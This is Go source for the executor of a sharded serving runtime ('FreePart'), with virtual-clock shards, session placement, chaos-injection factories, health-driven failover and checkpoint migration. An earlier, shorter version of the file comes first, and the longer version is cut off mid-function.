	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
	"freepart.dev/freepart/internal/vclock"
)

// Shard is one runtime shard of the concurrent serving layer: its own
// kernel (hence its own virtual clock, filesystem, and processes) plus a
// Caller running on it — a full FreePart runtime for protected shards or a
// Direct monolith for unprotected ones. Sessions pinned to a shard execute
// serially on it, so the shard's framework state machine, agent tables,
// and temporal permissions never interleave across tenants.
type Shard struct {
	// ID is the shard's index in its executor, fixed at construction.
	ID int
	// K is the shard-private kernel.
	K *kernel.Kernel
	// Ex is the caller running on this shard.
	Ex Caller
	// Rt is set when Ex is a FreePart runtime; nil for direct shards.
	Rt *Runtime

	mu   sync.Mutex
	jobs uint64
}

// Clock returns the shard's virtual clock.
func (s *Shard) Clock() *vclock.Clock { return s.K.Clock }

// Jobs reports how many invocations the shard has executed.
func (s *Shard) Jobs() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.jobs
}

// ShardFactory builds the id-th shard of an executor. Factories must be
// deterministic: shard id in, identical shard out, so an executor built
// twice from the same factory behaves identically.
type ShardFactory func(id int) (*Shard, error)

// ProtectedShards returns a factory producing FreePart-protected shards:
// each shard is a fresh kernel with a full runtime (host, agents, policies)
// configured by cfg.
//
// Determinism note: cfg.Chaos binds a single injection engine to the first
// shard's kernel clock, so chaos runs are replayable only at one shard
// (the configuration the determinism tests pin); multi-shard chaos would
// interleave one rng across independently scheduled shards.
func ProtectedShards(reg *framework.Registry, cat *analysis.Categorization, cfg Config) ShardFactory {
	return func(id int) (*Shard, error) {
		k := kernel.New()
		rt, err := New(k, reg, cat, cfg)
		if err != nil {
			return nil, fmt.Errorf("core: shard %d: %w", id, err)
		}
		return &Shard{ID: id, K: k, Ex: rt, Rt: rt}, nil
	}
}

// DirectShards returns a factory producing unprotected shards: each shard
// is a fresh kernel running a Direct monolith. The unprotected comparison
// point for serving-layer scaling numbers.
func DirectShards(reg *framework.Registry) ShardFactory {
	return func(id int) (*Shard, error) {
		k := kernel.New()
		return &Shard{ID: id, K: k, Ex: NewDirect(k, reg)}, nil
	}
}

// Executor is the concurrent serving layer: a bounded worker pool over n
// runtime shards. Sessions are assigned to shards round-robin; at most n
// pipeline invocations run concurrently (one per shard worker), and
// invocations pinned to the same shard serialize on it. Immutable
// artifacts are shared across shards through the executor's read-only
// object store instead of being rebuilt per shard.
//
// With n = 1 the executor degenerates to the synchronous path: one shard,
// one worker, every invocation in submission order — byte-identical
// outputs to calling the runtime directly.
type Executor struct {
	shards []*Shard
	store  *object.Store
	sem    chan struct{}
	lat    *vclock.Latencies

	mu       sync.Mutex
	sessions int
}

// NewExecutor builds an executor over n shards produced by factory.
func NewExecutor(n int, factory ShardFactory) (*Executor, error) {
	if n <= 0 {
		return nil, fmt.Errorf("core: executor needs n > 0 shards")
	}
	e := &Executor{
		store: object.NewStore(),
		sem:   make(chan struct{}, n),
		lat:   &vclock.Latencies{},
	}
	for i := 0; i < n; i++ {
		sh, err := factory(i)
		if err != nil {
			e.Close()
			return nil, err
		}
		e.shards = append(e.shards, sh)
	}
	return e, nil
}

// Shards returns the shard count.
func (e *Executor) Shards() int { return len(e.shards) }

// Shard returns the i-th shard.
func (e *Executor) Shard(i int) *Shard { return e.shards[i] }

// Store returns the executor's shared read-only object store.
func (e *Executor) Store() *object.Store { return e.store }

// Latencies returns the per-invocation virtual latency distribution.
func (e *Executor) Latencies() *vclock.Latencies { return e.lat }

// CriticalPath returns the max-merge of all shard clocks — the virtual
// wall-clock of the whole serving run (the slowest shard), which is what
// throughput divides by. Per-shard work that ran in parallel does not sum.
func (e *Executor) CriticalPath() vclock.Duration {
	clocks := make([]*vclock.Clock, len(e.shards))
	for i, sh := range e.shards {
		clocks[i] = sh.K.Clock
	}
	return vclock.Max(clocks...)
}

// TotalWork returns the sum of all shard clocks — aggregate virtual compute
// spent. TotalWork / CriticalPath is the run's effective parallelism.
func (e *Executor) TotalWork() vclock.Duration {
	var sum vclock.Duration
	for _, sh := range e.shards {
		sum += sh.K.Clock.Now()
	}
	return sum
}

// Session opens a session pinned to the next shard round-robin. Assignment
// order is the order Session is called in, so sequential opens are
// deterministic.
func (e *Executor) Session() *Session {
	e.mu.Lock()
	id := e.sessions
	e.sessions++
	e.mu.Unlock()
	return &Session{ID: id, ex: e, shard: e.shards[id%len(e.shards)]}
}

// Close shuts down every shard's runtime.
func (e *Executor) Close() {
	for _, sh := range e.shards {
		if sh.Rt != nil {
			sh.Rt.Close()
		}
	}
}

// Session is one client's stream of pipeline invocations. All of a
// session's work runs on a single shard, so a client's framework state
// (open captures, loaded models, intermediate objects) stays on one
// runtime across invocations.
type Session struct {
	// ID is the session's global open order.
	ID    int
	ex    *Executor
	shard *Shard
}

// Shard returns the shard this session is pinned to.
func (s *Session) Shard() *Shard { return s.shard }

// Do runs one pipeline invocation on the session's shard. Admission is
// bounded by the executor's worker count; invocations on the same shard
// serialize. The invocation's virtual latency — the shard clock's advance
// while the job ran — is recorded in the executor's distribution.
func (s *Session) Do(job func(sh *Shard) error) error {
	s.ex.sem <- struct{}{}
	defer func() { <-s.ex.sem }()

	s.shard.mu.Lock()
	defer s.shard.mu.Unlock()
	start := s.shard.K.Clock.Now()
	err := job(s.shard)
	s.ex.lat.Add(s.shard.K.Clock.Now() - start)
	s.shard.jobs++
	return err
}

// Call implements Caller on the session: a single-API invocation submitted
// through the pool. Pipelines of several calls should use Do so the whole
// invocation is admitted (and its latency measured) as one unit.
func (s *Session) Call(api string, args ...framework.Value) ([]Handle, []framework.Value, error) {
	var handles []Handle
	var plain []framework.Value
	err := s.Do(func(sh *Shard) error {
		var cerr error
		handles, plain, cerr = sh.Ex.Call(api, args...)
		return cerr
	})
	return handles, plain, err
}

// Fetch implements Caller on the session.
func (s *Session) Fetch(h Handle) ([]byte, error) {
	var out []byte
	err := s.Do(func(sh *Shard) error {
		var ferr error
		out, ferr = sh.Ex.Fetch(h)
		return ferr
	})
	return out, err
}
