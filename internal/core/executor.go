package core

import (
	"errors"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/object"
	"freepart.dev/freepart/internal/vclock"
)

// Shard is one runtime shard of the concurrent serving layer: its own
// kernel (hence its own virtual clock, filesystem, and processes) plus a
// Caller running on it — a full FreePart runtime for protected shards or a
// Direct monolith for unprotected ones. Sessions pinned to a shard execute
// serially on it, so the shard's framework state machine, agent tables,
// and temporal permissions never interleave across tenants.
type Shard struct {
	// ID is the shard's index in its executor, fixed at construction. A
	// replacement shard inherits the id of the shard it replaces.
	ID int
	// Gen is the incarnation number for this id: 0 for the original shard,
	// incremented each time failover replaces it.
	Gen int
	// K is the shard-private kernel.
	K *kernel.Kernel
	// Ex is the caller running on this shard.
	Ex Caller
	// Rt is set when Ex is a FreePart runtime; nil for direct shards.
	Rt *Runtime
	// JoinedAt is the virtual time the shard joined the serving pool: zero
	// for shards built at construction, the scale-up decision time for
	// shards the control plane grew. A failover replacement inherits its
	// predecessor's JoinedAt (same pool slot, same lifetime). Written
	// before the shard is published to the pool, immutable afterwards.
	JoinedAt vclock.Duration

	// retiredAt is set (under the executor's mu) when the control plane
	// scales the shard in; zero for live shards and failover corpses.
	retiredAt vclock.Duration

	mu   sync.Mutex
	jobs uint64
	// ends is the completion-stamp ring behind the virtual queue-depth
	// signal (see queuedAt); only populated while an admission policy is
	// active, so the unbounded path never pays for it.
	ends []vclock.Duration

	// Health state, guarded by hm (not mu: observers must not block behind a
	// running job).
	hm       sync.Mutex
	failed   bool
	reason   string
	failures []vclock.Duration
}

// Clock returns the shard's virtual clock.
func (s *Shard) Clock() *vclock.Clock { return s.K.Clock }

// Jobs reports how many invocations the shard has executed.
func (s *Shard) Jobs() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.jobs
}

// Chaos returns the fault-injection engine bound to this shard, nil when
// the shard runs without chaos (or is a direct shard).
func (s *Shard) Chaos() *chaos.Engine {
	if s.Rt != nil {
		return s.Rt.Config.Chaos
	}
	return nil
}

// Failed reports whether the shard has been marked lost (killed or drained
// by the health policy). A failed shard admits no further work.
func (s *Shard) Failed() bool {
	s.hm.Lock()
	defer s.hm.Unlock()
	return s.failed
}

// FailReason returns why the shard was marked lost.
func (s *Shard) FailReason() string {
	s.hm.Lock()
	defer s.hm.Unlock()
	return s.reason
}

// fail marks the shard lost; returns false if it already was.
func (s *Shard) fail(reason string) bool {
	s.hm.Lock()
	defer s.hm.Unlock()
	if s.failed {
		return false
	}
	s.failed = true
	s.reason = reason
	return true
}

// recordFailure logs a crash-class failure at virtual time now and returns
// how many failures fall inside the trailing window (0 = unbounded),
// mirroring the PR-1 circuit breaker's restart window one level up.
func (s *Shard) recordFailure(now, window vclock.Duration) int {
	s.hm.Lock()
	defer s.hm.Unlock()
	s.failures = append(s.failures, now)
	if window > 0 {
		keep := s.failures[:0]
		for _, t := range s.failures {
			if now-t <= window {
				keep = append(keep, t)
			}
		}
		s.failures = keep
	}
	return len(s.failures)
}

// workerSem is a resizable counting semaphore bounding concurrent
// admissions — the executor's worker pool. Capacity tracks the shard count
// as the control plane grows and shrinks the pool; shrinking below the
// in-use count simply blocks new admissions until enough slots drain.
type workerSem struct {
	mu   sync.Mutex
	cond *sync.Cond
	cap  int
	used int
}

func newWorkerSem(n int) *workerSem {
	s := &workerSem{cap: n}
	s.cond = sync.NewCond(&s.mu)
	return s
}

func (s *workerSem) acquire() {
	s.mu.Lock()
	for s.used >= s.cap {
		s.cond.Wait()
	}
	s.used++
	s.mu.Unlock()
}

func (s *workerSem) release() {
	s.mu.Lock()
	s.used--
	s.cond.Signal()
	s.mu.Unlock()
}

func (s *workerSem) setCap(n int) {
	s.mu.Lock()
	s.cap = n
	s.cond.Broadcast()
	s.mu.Unlock()
}

// ShardFactory builds the id-th shard of an executor. Factories must be
// deterministic: shard id in, identical shard out, so an executor built
// twice from the same factory behaves identically — and so a replacement
// shard built after failover is indistinguishable from a fresh one.
type ShardFactory func(id int) (*Shard, error)

// ProtectedShards returns a factory producing FreePart-protected shards:
// each shard is a fresh kernel with a full runtime (host, agents, policies)
// configured by cfg.
//
// Chaos is split per shard: the first shard 0 keeps cfg.Chaos itself (so a
// one-shard executor is byte-identical to the synchronous path, injection
// log included), and every other shard — replacements included — gets its
// own engine seeded by Plan.ForShard(id). One engine never serves two
// kernel clocks (Engine.Bind panics on rebinding), which keeps concurrent
// multi-shard chaos runs byte-replayable per shard.
func ProtectedShards(reg *framework.Registry, cat *analysis.Categorization, cfg Config) ShardFactory {
	var rootEngineUsed atomic.Bool
	return func(id int) (*Shard, error) {
		c := cfg
		if c.Chaos != nil && !(id == 0 && rootEngineUsed.CompareAndSwap(false, true)) {
			c.Chaos = chaos.New(c.Chaos.Plan().ForShard(id))
		}
		k := kernel.New()
		rt, err := New(k, reg, cat, c)
		if err != nil {
			return nil, fmt.Errorf("core: shard %d: %w", id, err)
		}
		return &Shard{ID: id, K: k, Ex: rt, Rt: rt}, nil
	}
}

// ChaosShards returns a protected-shard factory with an explicit per-shard,
// per-generation chaos plan — the hook tests use to force exactly one shard
// into a crash loop while the others see background-intensity faults. The
// factory counts how many times each id was built, so planOf sees gen 0 for
// the original shard and gen n for the n-th replacement: a crash-looping
// machine can be modeled as replaced by a healthy one, which is what breaks
// the crash→drain→crash cycle. Build order per id is deterministic, so the
// gen sequence replays exactly.
func ChaosShards(reg *framework.Registry, cat *analysis.Categorization, cfg Config, planOf func(id, gen int) chaos.Plan) ShardFactory {
	var mu sync.Mutex
	gens := make(map[int]int)
	return func(id int) (*Shard, error) {
		mu.Lock()
		gen := gens[id]
		gens[id]++
		mu.Unlock()
		c := cfg
		c.Chaos = chaos.New(planOf(id, gen))
		k := kernel.New()
		rt, err := New(k, reg, cat, c)
		if err != nil {
			return nil, fmt.Errorf("core: shard %d: %w", id, err)
		}
		return &Shard{ID: id, K: k, Ex: rt, Rt: rt}, nil
	}
}

// DynamicShards returns a protected-shard factory whose configuration is
// re-derived on every build: cfgOf is consulted each time a shard (or a
// replacement) is constructed, so a shard drained and respawned through
// the failover machinery comes back under whatever configuration — in
// particular, whatever isolation policy — is current at respawn time.
// This is the re-bind hook the adaptive defense controller escalates and
// anneals through (RebindShard). planOf, when non-nil, supplies per-shard
// per-generation chaos plans exactly as ChaosShards does. With a cfgOf
// that always returns the same configuration and a nil planOf, the
// factory builds byte-identical shards to ProtectedShards over that
// configuration — the defense zero-cost guard pins this down.
func DynamicShards(reg *framework.Registry, cat *analysis.Categorization, cfgOf func() Config, planOf func(id, gen int) chaos.Plan) ShardFactory {
	var mu sync.Mutex
	gens := make(map[int]int)
	return func(id int) (*Shard, error) {
		mu.Lock()
		gen := gens[id]
		gens[id]++
		mu.Unlock()
		c := cfgOf()
		if planOf != nil {
			c.Chaos = chaos.New(planOf(id, gen))
		}
		k := kernel.New()
		rt, err := New(k, reg, cat, c)
		if err != nil {
			return nil, fmt.Errorf("core: shard %d: %w", id, err)
		}
		return &Shard{ID: id, K: k, Ex: rt, Rt: rt}, nil
	}
}

// DirectShards returns a factory producing unprotected shards: each shard
// is a fresh kernel running a Direct monolith. The unprotected comparison
// point for serving-layer scaling numbers.
func DirectShards(reg *framework.Registry) ShardFactory {
	return func(id int) (*Shard, error) {
		k := kernel.New()
		return &Shard{ID: id, K: k, Ex: NewDirect(k, reg)}, nil
	}
}

// HealthPolicy configures shard-level failure handling, lifting the PR-1
// per-partition supervision policy to whole shards. The zero value disables
// health-driven drains; explicit kills (KillShard/ScheduleKill) work either
// way.
type HealthPolicy struct {
	// FailThreshold drains a shard after this many crash-class invocation
	// failures (agent crash, dead peer, timeout, dead host) inside
	// FailWindow. 0 disables the failure counter.
	FailThreshold int
	// FailWindow is the trailing virtual-time window failures are counted
	// over on the shard clock; 0 means unbounded.
	FailWindow vclock.Duration
	// DrainOnDegrade drains a shard as soon as its runtime's circuit
	// breaker has demoted any partition to in-host execution: replacement
	// restores full isolation instead of serving without it indefinitely.
	DrainOnDegrade bool
}

// FailoverEvent is one entry in the executor's replayable failover log.
// Per-shard subsequences (FailoverEventsFor) are deterministic for a fixed
// plan seed; the interleaving across shards is not, so replay assertions
// compare per shard.
type FailoverEvent struct {
	// At is the virtual time on the subject shard's clock.
	At vclock.Duration
	// Shard and Gen identify the shard incarnation the event concerns.
	Shard int
	Gen   int
	// Kind is "kill", "drain", "replace", "replace-failed", "migrate",
	// "migrate-failed" — or a control-plane action: "grow", "shrink",
	// "rebalance", "rebind" (defense re-bind drain), "quarantine"
	// (admission refused for a quarantined tenant).
	Kind string
	// Detail carries the reason or subject (session id, error).
	Detail string
}

// String renders the event as one log line.
func (ev FailoverEvent) String() string {
	return fmt.Sprintf("@%v shard %d/gen %d %s %s", ev.At, ev.Shard, ev.Gen, ev.Kind, ev.Detail)
}

// Executor is the concurrent serving layer: a bounded worker pool over n
// runtime shards. Sessions are assigned to shards round-robin; at most n
// pipeline invocations run concurrently (one per shard worker), and
// invocations pinned to the same shard serialize on it. Immutable
// artifacts are shared across shards through the executor's read-only
// object store, and stateful-API state is written through to a portable
// checkpoint log so sessions survive the loss of their shard: a failed
// shard is drained, its sessions migrate to a replacement with their
// checkpointed state materialized there, and serving continues.
//
// With n = 1 and no faults the executor degenerates to the synchronous
// path: one shard, one worker, every invocation in submission order —
// byte-identical outputs to calling the runtime directly.
type Executor struct {
	store   *object.Store
	ckpt    *object.CheckpointLog
	factory ShardFactory
	sem     *workerSem
	lat     *vclock.Latencies
	queue   *vclock.Latencies
	met     *metrics.Counters

	// failMu serializes whole pool-shape operations — failover (drain +
	// replace + migrate) and control-plane grow/shrink/rebalance — so two
	// sessions observing one dead shard produce one replacement, and a
	// scale never races a failover on the same slot.
	failMu sync.Mutex

	mu        sync.Mutex
	shards    []*Shard
	sessions  []*Session
	retired   []*Shard
	killAt    map[int]vclock.Duration
	events    []FailoverEvent
	policy    HealthPolicy
	admit     AdmissionPolicy
	gate      AdmissionGate
	onReplace func(*Shard) error
	place     func(session int, pool []PlacementInfo) int
	placeKey  func(session int, key uint64, pool []PlacementInfo) int
	// pinned and tpinned are incremental unfinished-session counts per pool
	// slot (total, and per tenant per slot). They replace the per-open scan
	// over every session — at tens of thousands of sessions the scan made
	// each open O(sessions) — and are maintained at open, finish, and
	// migrate under mu, always matching what the scan would count.
	pinned  map[int]int
	tpinned map[int]map[int]int
	loads   map[int]*shardLoad
	tenants map[int]*tenantLoad
	grayp   GrayPolicy
	hedgep  HedgePolicy
	grays   map[int]*grayState
}

// shardLoad accumulates per-pool-slot (shard id, across incarnations)
// admission signals, guarded by the executor's mu.
type shardLoad struct {
	waitSum  vclock.Duration
	waits    uint64
	jobs     uint64
	rejected uint64
	shed     uint64
}

// PlacementInfo describes one live shard to a placement hook: enough for a
// cost model to score it without reaching back into the executor.
type PlacementInfo struct {
	// ID is the shard's pool slot.
	ID int
	// Gen is the slot's current incarnation — a cache-affinity placer
	// needs it because a replacement shard's page cache is cold even
	// though the slot id is unchanged.
	Gen int
	// Sessions is how many unfinished sessions are pinned to the shard.
	Sessions int
	// TenantSessions is how many of those belong to the tenant the
	// placement decision is being made for (the opening or migrating
	// session's tenant); 0 when the decision has no tenant context.
	TenantSessions int
	// Clock is the shard's current virtual time.
	Clock vclock.Duration
}

// ShardLoad is the per-slot load signal the control plane reconciles on:
// cumulative admission-queue wait and job counts across every incarnation
// of the slot (so a failover does not reset the signal), plus pool facts.
type ShardLoad struct {
	// ID is the pool slot; Gen the current incarnation.
	ID  int
	Gen int
	// Sessions is how many unfinished sessions are pinned to the shard.
	Sessions int
	// Clock is the shard's current virtual time; JoinedAt when the slot
	// joined the pool.
	Clock    vclock.Duration
	JoinedAt vclock.Duration
	// WaitSum and Waits accumulate admission-queue delay: WaitSum/Waits is
	// the slot's lifetime mean wait. The control plane diffs successive
	// readings to get per-window means.
	WaitSum vclock.Duration
	Waits   uint64
	// Jobs counts completed invocations on the slot.
	Jobs uint64
	// Rejected and Shed count the slot's overload decisions: queue-bound
	// rejections (virtual 503s) and deadline drops. The control plane
	// treats a nonzero window delta as a first-class grow signal — shed
	// work is demand the pool had no capacity for.
	Rejected uint64
	Shed     uint64
	// Suspicion and Suspect expose the gray-failure scorer's view of the
	// current incarnation (zero when scoring is disabled), so the control
	// plane's barrier log records which shards were under suspicion.
	Suspicion float64
	Suspect   bool
}

// NewExecutor builds an executor over n shards produced by factory. The
// factory is retained: failover calls it again to build replacement shards.
func NewExecutor(n int, factory ShardFactory) (*Executor, error) {
	if n <= 0 {
		return nil, fmt.Errorf("core: executor needs n > 0 shards")
	}
	e := &Executor{
		store:   object.NewStore(),
		ckpt:    object.NewCheckpointLog(),
		factory: factory,
		sem:     newWorkerSem(n),
		lat:     &vclock.Latencies{},
		queue:   &vclock.Latencies{},
		met:     metrics.New(),
		killAt:  make(map[int]vclock.Duration),
		pinned:  make(map[int]int),
		tpinned: make(map[int]map[int]int),
		loads:   make(map[int]*shardLoad),
		tenants: make(map[int]*tenantLoad),
		grays:   make(map[int]*grayState),
	}
	for i := 0; i < n; i++ {
		sh, err := factory(i)
		if err != nil {
			e.Close()
			return nil, err
		}
		if sh.Rt != nil {
			sh.Rt.SetCheckpointLog(e.ckpt)
		}
		e.shards = append(e.shards, sh)
	}
	return e, nil
}

// Shards returns the current shard count. The control plane can change it
// at reconcile points (Grow/Shrink); with no control plane attached it is
// fixed at construction.
func (e *Executor) Shards() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return len(e.shards)
}

// Shard returns the current incarnation serving shard id i.
func (e *Executor) Shard(i int) *Shard {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.shards[i]
}

// Incarnations returns every incarnation of shard id in generation order:
// retired (drained) shards first, then the current one. Tests use it to
// compare per-incarnation chaos injection logs across replays.
func (e *Executor) Incarnations(id int) []*Shard {
	e.mu.Lock()
	defer e.mu.Unlock()
	var out []*Shard
	for _, sh := range e.retired {
		if sh.ID == id {
			out = append(out, sh)
		}
	}
	if id < len(e.shards) {
		out = append(out, e.shards[id])
	}
	return out
}

// Store returns the executor's shared read-only object store.
func (e *Executor) Store() *object.Store { return e.store }

// CheckpointLog returns the portable checkpoint log shared by all shards.
func (e *Executor) CheckpointLog() *object.CheckpointLog { return e.ckpt }

// Metrics returns the executor's serving-layer counters (ShardDrains,
// Migrations, FailedMigrations; runtime-level counters stay per shard).
func (e *Executor) Metrics() *metrics.Counters { return e.met }

// Latencies returns the per-invocation virtual latency distribution.
// Samples run from each request's arrival stamp to completion, so they
// include admission-queue wait, not just service time.
func (e *Executor) Latencies() *vclock.Latencies { return e.lat }

// QueueWaits returns the distribution of admission-queue waits alone — the
// virtual time requests spent queued behind earlier work on their shard.
func (e *Executor) QueueWaits() *vclock.Latencies { return e.queue }

// SetHealthPolicy installs the shard health policy. Set it before serving;
// the zero policy disables health-driven drains.
func (e *Executor) SetHealthPolicy(p HealthPolicy) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.policy = p
}

// SetOnReplace installs a provisioning hook run on every replacement shard
// before it starts serving — the serving app reloads per-shard artifacts
// (e.g. its model) here.
func (e *Executor) SetOnReplace(fn func(*Shard) error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.onReplace = fn
}

// ScheduleKill arranges for shard id to be killed at the given virtual time
// on its own clock. The kill fires at the first admission at or after that
// time, which makes it deterministic: per-shard admission order is FIFO and
// the shard clock is a pure function of the work it ran. One schedule fires
// at most once; the replacement shard is not re-killed.
func (e *Executor) ScheduleKill(id int, at vclock.Duration) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.killAt[id] = at
}

// KillShard marks the current incarnation of shard id lost immediately and
// crashes its processes. Sessions pinned to it migrate at their next
// invocation. Must not be called from inside a job running on that shard.
func (e *Executor) KillShard(id int, reason string) {
	sh := e.Shard(id)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	e.killShardLocked(sh, reason)
}

// killShardLocked marks sh lost and crashes its processes. Caller holds
// sh.mu (or otherwise guarantees no job is running on sh).
func (e *Executor) killShardLocked(sh *Shard, reason string) {
	if !sh.fail(reason) {
		return
	}
	// The whole simulated machine behind the shard dies with it.
	for _, p := range sh.K.Processes() {
		if p.Alive() {
			sh.K.Crash(p, "shard killed: "+reason)
		}
	}
	e.recordEvent(sh, "kill", reason)
}

// RebindShard drains the current incarnation of shard id and respawns it
// through the regular failover machinery — drain, rebuild via the
// retained factory, rejoin the virtual timeline, reprovision (OnReplace),
// migrate every pinned session through the portable checkpoint log —
// without crashing any of its processes first: the shard is healthy, it
// is merely bound to the wrong configuration. With a DynamicShards
// factory the replacement comes up under the configuration current at
// respawn time, which is how the defense controller moves an API type
// between isolation tiers at runtime. Intended to be called from a
// reconcile point (a serving-wave barrier) with no job running on the
// shard. Idempotent against an already-failed shard.
func (e *Executor) RebindShard(id int, reason string) error {
	sh := e.Shard(id)
	if !sh.fail("rebind: " + reason) {
		return nil
	}
	e.recordEvent(sh, "rebind", reason)
	return e.failover(sh)
}

// applyScheduledKill fires a pending scheduled kill once the shard clock
// has reached it. Caller holds sh.mu.
func (e *Executor) applyScheduledKill(sh *Shard) {
	e.mu.Lock()
	at, ok := e.killAt[sh.ID]
	e.mu.Unlock()
	if !ok || sh.Failed() || sh.K.Clock.Now() < at {
		return
	}
	e.mu.Lock()
	delete(e.killAt, sh.ID)
	e.mu.Unlock()
	e.killShardLocked(sh, fmt.Sprintf("scheduled kill at %v", at))
}

// healthPolicy reads the installed policy.
func (e *Executor) healthPolicy() HealthPolicy {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.policy
}

// recordEvent appends to the failover log, stamped on the subject shard's
// clock, and bumps the matching metrics counter inside the same critical
// section. Counter and log mutate atomically with respect to
// EventsAndMetrics, so a snapshot taken mid-migration can never show a
// count the paired log doesn't explain (or vice versa).
func (e *Executor) recordEvent(sh *Shard, kind, detail string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.events = append(e.events, FailoverEvent{
		At: sh.K.Clock.Now(), Shard: sh.ID, Gen: sh.Gen, Kind: kind, Detail: detail,
	})
	switch kind {
	case "drain":
		e.met.AddShardDrain()
	case "migrate":
		e.met.AddMigration()
	case "migrate-failed":
		e.met.AddFailedMigration()
	case "grow":
		e.met.AddScaleUp()
	case "shrink":
		e.met.AddScaleDown()
	case "rebalance":
		e.met.AddRebalance()
	case "rebind":
		e.met.AddRebind()
	case "hedge":
		e.met.AddHedge()
	case "hedge-win":
		e.met.AddHedgeWin()
	case "hedge-cancel":
		e.met.AddHedgeCancel()
	}
}

// EventsAndMetrics returns the control event log and the metrics snapshot
// under one lock acquisition: the pair is consistent — every drain,
// migration, scale, and rebalance counted in the snapshot has its event in
// the log, even while migrations are in flight on other goroutines.
func (e *Executor) EventsAndMetrics() ([]FailoverEvent, metrics.Snapshot) {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]FailoverEvent, len(e.events))
	copy(out, e.events)
	return out, e.met.Snapshot()
}

// FailoverEvents returns a copy of the full failover log.
func (e *Executor) FailoverEvents() []FailoverEvent {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]FailoverEvent, len(e.events))
	copy(out, e.events)
	return out
}

// FailoverEventsFor returns the failover log filtered to one shard id —
// the deterministic, replay-comparable subsequence.
func (e *Executor) FailoverEventsFor(id int) []FailoverEvent {
	var out []FailoverEvent
	for _, ev := range e.FailoverEvents() {
		if ev.Shard == id {
			out = append(out, ev)
		}
	}
	return out
}

// CriticalPath returns the max-merge of all shard clocks — the virtual
// wall-clock of the whole serving run (the slowest shard), which is what
// throughput divides by. Per-shard work that ran in parallel does not sum.
func (e *Executor) CriticalPath() vclock.Duration {
	e.mu.Lock()
	clocks := make([]*vclock.Clock, len(e.shards))
	for i, sh := range e.shards {
		clocks[i] = sh.K.Clock
	}
	e.mu.Unlock()
	return vclock.Max(clocks...)
}

// TotalWork returns the sum of all current shard clocks — aggregate virtual
// compute spent. TotalWork / CriticalPath is the run's effective
// parallelism.
func (e *Executor) TotalWork() vclock.Duration {
	e.mu.Lock()
	defer e.mu.Unlock()
	var sum vclock.Duration
	for _, sh := range e.shards {
		sum += sh.K.Clock.Now()
	}
	return sum
}

// SetPlacement installs a pluggable placement hook for new sessions: given
// the session id and a snapshot of the live pool, it returns the shard slot
// to pin to. Nil (the default) keeps round-robin by open order — the
// n=1-bit-identical policy every experiment before the control plane used.
// An out-of-range return falls back to round-robin.
func (e *Executor) SetPlacement(fn func(session int, pool []PlacementInfo) int) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.place = fn
}

// SetKeyedPlacement installs the placement hook consulted for sessions
// opened with a session key (SessionKeyed): it additionally sees the key,
// so a partition-aware placer can score warm-cache affinity. Keyless opens
// never consult it; keyed opens fall back to the plain hook (then
// round-robin) when it is nil or declines — so with no keyed hook
// installed, SessionKeyed is bit-identical to SessionFor.
func (e *Executor) SetKeyedPlacement(fn func(session int, key uint64, pool []PlacementInfo) int) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.placeKey = fn
}

// placementPoolLocked snapshots the live pool for a placement decision made
// on behalf of a tenant (-1 for no tenant context: TenantSessions reads 0).
// Counts come from the incremental pinned maps, so a snapshot costs
// O(shards) regardless of how many sessions have ever opened. Caller holds
// e.mu.
func (e *Executor) placementPoolLocked(tenant int) []PlacementInfo {
	var tp map[int]int
	if tenant >= 0 {
		tp = e.tpinned[tenant]
	}
	pool := make([]PlacementInfo, len(e.shards))
	for i, sh := range e.shards {
		pool[i] = PlacementInfo{ID: sh.ID, Gen: sh.Gen, Sessions: e.pinned[sh.ID], TenantSessions: tp[sh.ID], Clock: sh.K.Clock.Now()}
	}
	return pool
}

// pinLocked counts a newly opened session; caller holds e.mu.
func (e *Executor) pinLocked(slot, tenant int) {
	e.pinned[slot]++
	tp := e.tpinned[tenant]
	if tp == nil {
		tp = make(map[int]int)
		e.tpinned[tenant] = tp
	}
	tp[slot]++
}

// unpinLocked removes a finished session's pin; caller holds e.mu.
func (e *Executor) unpinLocked(slot, tenant int) {
	e.pinned[slot]--
	if tp := e.tpinned[tenant]; tp != nil {
		tp[slot]--
	}
}

// movePin transfers an unfinished session's pin count between slots (a
// migration). Callers must not hold e.mu or any session mu.
func (e *Executor) movePin(from, to, tenant int) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.unpinLocked(from, tenant)
	e.pinLocked(to, tenant)
}

// Session opens a session pinned to a shard chosen by the placement hook —
// round-robin by open order when none is installed. Assignment order is the
// order Session is called in, so sequential opens are deterministic.
// Sessions opened this way belong to tenant 0 with weight 1 — the
// single-tenant default every pre-overload experiment ran under.
func (e *Executor) Session() *Session { return e.SessionFor(0, 1) }

// SessionFor opens a session on behalf of a tenant with a fair-queueing
// weight. The tenant id tags every admission signal (waits, served, shed)
// and the weight drives WFQ admission ordering; placement sees the tenant's
// current spread across shards through PlacementInfo.TenantSessions.
// Weights below 1 are lifted to 1.
func (e *Executor) SessionFor(tenant, weight int) *Session {
	return e.open(tenant, weight, 0, false)
}

// SessionKeyed opens a session carrying a stable session key — the identity
// a returning user keeps across visits. Placement consults the keyed hook
// first (SetKeyedPlacement), then the plain hook, then round-robin; with no
// keyed hook installed the open is bit-identical to SessionFor.
func (e *Executor) SessionKeyed(tenant, weight int, key uint64) *Session {
	return e.open(tenant, weight, key, true)
}

// open is the shared session-open path.
func (e *Executor) open(tenant, weight int, key uint64, keyed bool) *Session {
	if weight < 1 {
